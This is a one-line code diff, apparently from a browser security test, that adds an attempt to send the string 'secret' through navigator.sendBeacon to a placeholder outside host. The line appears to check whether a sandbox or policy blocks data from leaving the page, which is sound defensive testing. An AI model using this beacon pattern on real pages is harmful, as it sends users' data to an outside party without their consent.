@@ -1,0 +1,1 @@
+attempt("beacon", () => navigator.sendBeacon("__AWAY__/beacon", "secret"));
